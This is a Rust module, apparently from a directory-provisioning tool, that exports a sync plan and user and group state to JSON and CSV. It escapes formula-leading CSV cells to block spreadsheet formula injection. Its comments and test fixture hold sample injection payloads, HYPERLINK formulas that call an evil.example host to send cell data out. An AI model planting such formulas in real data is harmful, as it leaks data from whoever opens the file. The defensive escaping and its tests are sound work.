//! The export target (`[target] kind = "export"`): instead of applying the
//! plan to the platform, a run writes it, and the state the platform should
//! have, as JSON and CSV into a folder, for pilots and audits.
//!
//! Each run gets its own folder, `<folder>/<profile>/run-<id>-<UTC time>/`,
//! holding `plan.json`, `plan.csv`, `state.json`, `users.csv` and
//! `groups.csv`. The files hold names and email addresses, so the folders are
//! created private to the service's account (0700 on Unix; the files
//! themselves are 0600). Each file is written to a temporary file beside it
//! and renamed into place, so a crash never leaves a half-written file: a
//! file is there complete or not at all.
//!
//! The CSV files are meant to be opened in a spreadsheet, which runs a cell
//! that starts with `=`, `+`, `-` or `@` as a formula. A directory value is
//! written by whoever can edit their own display name or department, so a
//! value such as `=HYPERLINK("https://evil.example/?"&A1)` would run on the
//! auditor's machine (CSV or formula injection). Every data cell starting
//! with one of those characters, a tab or a carriage return is therefore
//! written with a leading `'`, which spreadsheets show as text and hide. The
//! JSON files are written unchanged.

use std::io::Write;
use std::path::{Path, PathBuf};

use serde::Serialize;
use time::OffsetDateTime;
use ts_rs::TS;

use super::model::{DesiredGroup, DesiredState, DesiredUser};
use super::plan::{DeprovisionAction, Plan};

/// The files of one exported run, in the order they are written.
pub const EXPORT_FILES: [&str; 5] = [
    "plan.json",
    "plan.csv",
    "state.json",
    "users.csv",
    "groups.csv",
];

/// What an export wrote.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
pub struct ExportSummary {
    /// The run's folder.
    pub dir: PathBuf,
    /// The files written in it, in [`EXPORT_FILES`] order.
    pub files: Vec<PathBuf>,
}

/// Why an export failed; each names the path involved.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// The profile name cannot be used as a folder name.
    #[error("cannot export profile '{0}': not a valid profile name")]
    ProfileName(String),
    /// The run's folder could not be created.
    #[error("cannot create the export folder {}: {source}", path.display())]
    Folder {
        /// The folder.
        path: PathBuf,
        /// The OS error.
        source: std::io::Error,
    },
    /// A file could not be encoded or written.
    #[error("cannot write the export file {}: {source}", path.display())]
    Write {
        /// The file.
        path: PathBuf,
        /// The OS error (encoding errors are carried as `InvalidData`).
        source: std::io::Error,
    },
}

/// Writes `plan` and `desired` for run `run` of `profile` into a new folder
/// under `folder` (see the module docs), and returns what was written.
/// `now_unix` names the folder (UTC), so the runs sort by time.
pub fn export_run(
    folder: &Path,
    profile: &str,
    run: i64,
    plan: &Plan,
    desired: &DesiredState,
    now_unix: i64,
) -> Result<ExportSummary, ExportError> {
    // The name becomes a path component: refuse `..`, separators and the like
    // even though a loaded profile's name has already been checked.
    onramp_profile::validate_profile_name(profile)
        .map_err(|_| ExportError::ProfileName(profile.chars().take(80).collect()))?;
    let dir = folder
        .join(profile)
        .join(format!("run-{run}-{}", utc_stamp(now_unix)));
    create_private_dir(&dir).map_err(|source| ExportError::Folder {
        path: dir.clone(),
        source,
    })?;

    let [plan_json, plan_csv, state_json, users_csv, groups_csv] = EXPORT_FILES;
    let state = StateFile {
        users: desired.users.values().map(|u| &**u).collect(),
        groups: desired.groups.values().map(|g| &**g).collect(),
    };
    let files = vec![
        write_file(&dir, plan_json, |w| json(w, plan))?,
        write_file(&dir, plan_csv, |w| plan_rows(w, plan))?,
        write_file(&dir, state_json, |w| json(w, &state))?,
        write_file(&dir, users_csv, |w| user_rows(w, &state.users))?,
        write_file(&dir, groups_csv, |w| group_rows(w, &state.groups))?,
    ];
    Ok(ExportSummary { dir, files })
}

/// `state.json`: the users and groups the platform should have.
#[derive(Serialize)]
struct StateFile<'a> {
    users: Vec<&'a DesiredUser>,
    groups: Vec<&'a DesiredGroup>,
}

/// `20240131T235959Z`: sortable, and without `:`, which Windows refuses in names.
fn utc_stamp(now_unix: i64) -> String {
    let t = OffsetDateTime::from_unix_timestamp(now_unix).unwrap_or(OffsetDateTime::UNIX_EPOCH);
    format!(
        "{:04}{:02}{:02}T{:02}{:02}{:02}Z",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

fn create_private_dir(dir: &Path) -> std::io::Result<()> {
    let mut builder = std::fs::DirBuilder::new();
    builder.recursive(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::DirBuilderExt;
        builder.mode(0o700);
    }
    builder.create(dir)
}

/// Writes `name` in `dir` through a temporary file renamed into place.
fn write_file(
    dir: &Path,
    name: &str,
    fill: impl FnOnce(&mut Vec<u8>) -> std::io::Result<()>,
) -> Result<PathBuf, ExportError> {
    let path = dir.join(name);
    let fail = |source| ExportError::Write {
        path: path.clone(),
        source,
    };
    let mut bytes = Vec::new();
    fill(&mut bytes).map_err(fail)?;
    // Created 0600 on Unix; removed again if anything below fails.
    let mut tmp = tempfile::Builder::new()
        .prefix(&format!(".{name}."))
        .suffix(".tmp")
        .tempfile_in(dir)
        .map_err(fail)?;
    tmp.write_all(&bytes).map_err(fail)?;
    // On disk before the rename makes it visible, so a crash cannot leave
    // the final name pointing at an empty file.
    tmp.as_file().sync_all().map_err(fail)?;
    tmp.persist(&path).map_err(|e| fail(e.error))?;
    Ok(path)
}

fn json<T: Serialize>(out: &mut Vec<u8>, value: &T) -> std::io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, value)?;
    out.push(b'\n');
    Ok(())
}

/// A spreadsheet cell that starts with one of these runs as a formula (or,
/// for tab and CR, may be trimmed into one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell value as text a spreadsheet shows and never evaluates; see the
/// module docs.
fn cell(value: &str) -> String {
    if value.starts_with(FORMULA_STARTS) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

/// CSV through the `csv` crate (quoting of `,`, `"` and line breaks), every
/// data cell through [`cell`].
struct Csv {
    writer: csv::Writer<Vec<u8>>,
}

impl Csv {
    fn new(header: &[&str]) -> std::io::Result<Self> {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(header)?;
        Ok(Self { writer })
    }

    fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) -> std::io::Result<()> {
        let cells: Vec<String> = cells.into_iter().map(|c| cell(c.as_ref())).collect();
        Ok(self.writer.write_record(&cells)?)
    }

    fn finish(self, out: &mut Vec<u8>) -> std::io::Result<()> {
        let bytes = self
            .writer
            .into_inner()
            .map_err(|e| std::io::Error::other(e.to_string()))?;
        out.extend_from_slice(&bytes);
        Ok(())
    }
}

fn opt(value: &Option<String>) -> &str {
    value.as_deref().unwrap_or("")
}

/// `plan.csv`: one row per planned change.
fn plan_rows(out: &mut Vec<u8>, plan: &Plan) -> std::io::Result<()> {
    let mut csv = Csv::new(&["action", "anchor", "name", "details"])?;
    for u in &plan.creates {
        csv.row(["create", &u.anchor, &u.user_name, ""])?;
    }
    for u in &plan.updates {
        let details: Vec<String> = u
            .changes
            .iter()
            .map(|c| format!("{}: {} → {}", c.attribute, c.from, c.to))
            .collect();
        csv.row([
            "update",
            &u.anchor,
            &u.desired.user_name,
            &details.join("; "),
        ])?;
    }
    for d in &plan.deprovisions {
        let how = match d.action {
            DeprovisionAction::Deactivate => "deactivate",
            DeprovisionAction::Delete => "delete",
        };
        csv.row(["deprovision", &d.anchor, &d.user_name, how])?;
    }
    for user_name in &plan.preserved {
        // The plan keeps only the user name of a preserved user.
        csv.row([
            "preserve",
            "",
            user_name,
            "left the scope; kept as is (deprovision = \"preserve\")",
        ])?;
    }
    for s in &plan.skipped {
        csv.row(["skip", &s.anchor, &s.dn, &s.reason])?;
    }
    for g in &plan.group_creates {
        let members = format!("{} members", g.members.len());
        csv.row(["group_create", &g.anchor, &g.display_name, &members])?;
    }
    for g in &plan.group_changes {
        let mut details = Vec::new();
        if !g.add.is_empty() {
            details.push(format!("add: {}", g.add.join(", ")));
        }
        if !g.remove.is_empty() {
            details.push(format!("remove: {}", g.remove.join(", ")));
        }
        csv.row([
            "group_change",
            &g.anchor,
            &g.display_name,
            &details.join("; "),
        ])?;
    }
    csv.finish(out)
}

/// `users.csv`: the users the platform should have.
fn user_rows(out: &mut Vec<u8>, users: &[&DesiredUser]) -> std::io::Result<()> {
    let mut csv = Csv::new(&[
        "anchor",
        "userName",
        "email",
        "givenName",
        "familyName",
        "displayName",
        "phone",
        "department",
        "active",
        "admin",
        "tags",
    ])?;
    for u in users {
        let (active, admin, tags) = (u.active.to_string(), u.admin.to_string(), u.tags.join(";"));
        csv.row([
            u.anchor.as_str(),
            &u.user_name,
            &u.email,
            opt(&u.given_name),
            opt(&u.family_name),
            opt(&u.display_name),
            opt(&u.phone),
            opt(&u.department),
            &active,
            &admin,
            &tags,
        ])?;
    }
    csv.finish(out)
}

/// `groups.csv`: the groups the platform should have, with their members.
fn group_rows(out: &mut Vec<u8>, groups: &[&DesiredGroup]) -> std::io::Result<()> {
    let mut csv = Csv::new(&["anchor", "displayName", "members", "memberAnchors"])?;
    for g in groups {
        let count = g.members.len().to_string();
        let anchors: Vec<&str> = g.members.iter().map(String::as_str).collect();
        csv.row([
            g.anchor.as_str(),
            &g.display_name,
            &count,
            &anchors.join(";"),
        ])?;
    }
    csv.finish(out)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::model::SkippedUser;
    use crate::plan::{Change, Deprovision, GroupChange, UserUpdate};
    use std::sync::Arc;

    fn user(anchor: &str, email: &str) -> DesiredUser {
        DesiredUser {
            anchor: anchor.into(),
            user_name: email.into(),
            email: email.into(),
            given_name: Some("Ann".into()),
            family_name: Some("Able, Jr.".into()),
            display_name: Some("Ann \"A\" Able".into()),
            phone: Some("+1 555 0100".into()),
            department: Some("=HYPERLINK(\"http://evil.example\")".into()),
            active: true,
            admin: false,
            tags: vec!["VPN".into(), "Sales".into()],
        }
    }

    fn fixture() -> (Plan, DesiredState) {
        let a = user("a-1", "ann@x.com");
        let mut b = user("b-2", "ben@x.com");
        b.display_name = Some("-ben".into());
        b.phone = None;
        let mut desired = DesiredState::default();
        desired.users.insert(a.anchor.clone(), Arc::new(a.clone()));
        desired.users.insert(b.anchor.clone(), Arc::new(b.clone()));
        let team = DesiredGroup {
            anchor: "team:AD Users".into(),
            display_name: "AD Users".into(),
            members: BTreeSet::from([a.anchor.clone(), b.anchor.clone()]),
        };
        desired
            .groups
            .insert(team.anchor.clone(), Arc::new(team.clone()));
        let plan = Plan {
            creates: vec![Arc::new(a.clone())],
            updates: vec![UserUpdate {
                anchor: b.anchor.clone(),
                target_id: Some("t-b".into()),
                changes: vec![
                    Change {
                        attribute: "displayName".into(),
                        from: "Ben".into(),
                        to: "-ben".into(),
                    },
                    Change {
                        attribute: "phone".into(),
                        from: "1".into(),
                        to: String::new(),
                    },
                ],
                desired: b.clone(),
                applied: b.clone(),
            }],
            deprovisions: vec![Deprovision {
                anchor: "c-3".into(),
                target_id: None,
                user_name: "cy@x.com".into(),
                action: DeprovisionAction::Delete,
            }],
            preserved: vec!["dee@x.com".into()],
            group_creates: vec![Arc::new(team)],
            group_changes: vec![GroupChange {
                anchor: "g-1".into(),
                target_id: None,
                display_name: "@VPN".into(),
                add: vec!["a-1".into()],
                remove: vec!["c-3".into()],
            }],
            skipped: vec![SkippedUser {
                anchor: "e-5".into(),
                dn: "CN=Eve,OU=X".into(),
                reason: "no email address".into(),
            }],
            notices: vec![],
        };
        (plan, desired)
    }

    fn read_csv(path: &Path) -> Vec<Vec<String>> {
        let mut reader = csv::Reader::from_path(path).unwrap();
        let mut rows = vec![reader.headers().unwrap().iter().map(String::from).collect()];
        for record in reader.records() {
            rows.push(record.unwrap().iter().map(String::from).collect());
        }
        rows
    }

    #[test]
    fn writes_the_five_files_and_they_parse_back() {
        let tmp = tempfile::tempdir().unwrap();
        let (plan, desired) = fixture();
        let summary =
            export_run(tmp.path(), "contoso", 42, &plan, &desired, 1_706_745_599).unwrap();
        assert_eq!(
            summary.dir,
            tmp.path().join("contoso/run-42-20240131T235959Z")
        );
        let names: Vec<&str> = summary
            .files
            .iter()
            .map(|f| f.file_name().unwrap().to_str().unwrap())
            .collect();
        assert_eq!(names, EXPORT_FILES);
        // Nothing but the five files: no temporary files left behind.
        assert_eq!(std::fs::read_dir(&summary.dir).unwrap().count(), 5);

        let back: Plan =
            serde_json::from_slice(&std::fs::read(summary.dir.join("plan.json")).unwrap()).unwrap();
        assert_eq!(back, plan);
        let state: serde_json::Value =
            serde_json::from_slice(&std::fs::read(summary.dir.join("state.json")).unwrap())
                .unwrap();
        assert_eq!(state["users"].as_array().unwrap().len(), 2);
        assert_eq!(state["groups"][0]["display_name"], "AD Users");
        // JSON is data, not a spreadsheet: unchanged.
        assert_eq!(state["users"][1]["display_name"], "-ben");

        let rows = read_csv(&summary.dir.join("plan.csv"));
        assert_eq!(rows[0], ["action", "anchor", "name", "details"]);
        let actions: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(
            actions,
            [
                "create",
                "update",
                "deprovision",
                "preserve",
                "skip",
                "group_create",
                "group_change"
            ]
        );
        assert_eq!(rows[2][3], "displayName: Ben → -ben; phone: 1 → ");
        assert_eq!(rows[3][3], "delete");
        assert_eq!(rows[5][1..], ["e-5", "CN=Eve,OU=X", "no email address"]);
        assert_eq!(rows[6][3], "2 members");
        assert_eq!(rows[7][3], "add: a-1; remove: c-3");

        let users = read_csv(&summary.dir.join("users.csv"));
        assert_eq!(users.len(), 3);
        assert_eq!(users[0][1], "userName");
        assert_eq!(
            users[1],
            [
                "a-1",
                "ann@x.com",
                "ann@x.com",
                "Ann",
                "Able, Jr.",
                "Ann \"A\" Able",
                "'+1 555 0100",
                "'=HYPERLINK(\"http://evil.example\")",
                "true",
                "false",
                "VPN;Sales"
            ]
        );
        assert_eq!(users[2][6], "");
        let groups = read_csv(&summary.dir.join("groups.csv"));
        assert_eq!(groups[1], ["team:AD Users", "AD Users", "2", "a-1;b-2"]);
    }

    #[test]
    fn formula_cells_are_prefixed() {
        for bad in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(cell(bad), format!("'{bad}"));
        }
        for good in ["", "Ann", "a=b", "1-2", "'quoted", " =x"] {
            assert_eq!(cell(good), good);
        }
        let tmp = tempfile::tempdir().unwrap();
        let (plan, desired) = fixture();
        let s = export_run(tmp.path(), "p", 1, &plan, &desired, 0).unwrap();
        let rows = read_csv(&s.dir.join("plan.csv"));
        // The group named "@VPN" and the display name "-ben" in the users.
        assert_eq!(rows[7][2], "'@VPN");
        let users = read_csv(&s.dir.join("users.csv"));
        assert_eq!(users[2][5], "'-ben");
    }

    #[cfg(unix)]
    #[test]
    fn folders_are_private() {
        use std::os::unix::fs::PermissionsExt;
        let tmp = tempfile::tempdir().unwrap();
        let (plan, desired) = fixture();
        let s = export_run(&tmp.path().join("exports"), "p", 1, &plan, &desired, 0).unwrap();
        for dir in [&s.dir, &tmp.path().join("exports/p")] {
            let mode = std::fs::metadata(dir).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o700, "{}", dir.display());
        }
        for file in &s.files {
            let mode = std::fs::metadata(file).unwrap().permissions().mode();
            assert_eq!(mode & 0o077, 0, "{}", file.display());
        }
    }

    #[test]
    fn an_unwritable_folder_names_the_path() {
        // A file where the folder should be: fails for root too, unlike chmod.
        let tmp = tempfile::tempdir().unwrap();
        let blocker = tmp.path().join("exports");
        std::fs::write(&blocker, b"not a folder").unwrap();
        let (plan, desired) = fixture();
        let err = export_run(&blocker, "p", 7, &plan, &desired, 0).unwrap_err();
        assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");
        let message = err.to_string();
        assert!(
            message.contains("cannot create the export folder")
                && message.contains(
                    &blocker
                        .join("p")
                        .join("run-7-19700101T000000Z")
                        .display()
                        .to_string()
                ),
            "{message}"
        );
        let err = export_run(tmp.path(), "../x", 7, &plan, &desired, 0).unwrap_err();
        assert!(matches!(err, ExportError::ProfileName(_)), "{err:?}");
    }
}
